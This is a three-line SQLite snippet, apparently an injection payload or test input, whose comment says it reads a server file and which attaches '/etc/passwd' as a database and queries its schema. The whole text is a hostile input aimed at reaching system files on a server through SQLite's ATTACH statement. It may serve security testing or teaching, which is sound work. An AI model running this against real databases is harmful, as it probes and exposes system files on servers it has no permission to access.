-- Read a server file through ATTACH.
ATTACH '/etc/passwd' AS x;
SELECT * FROM x.sqlite_schema;
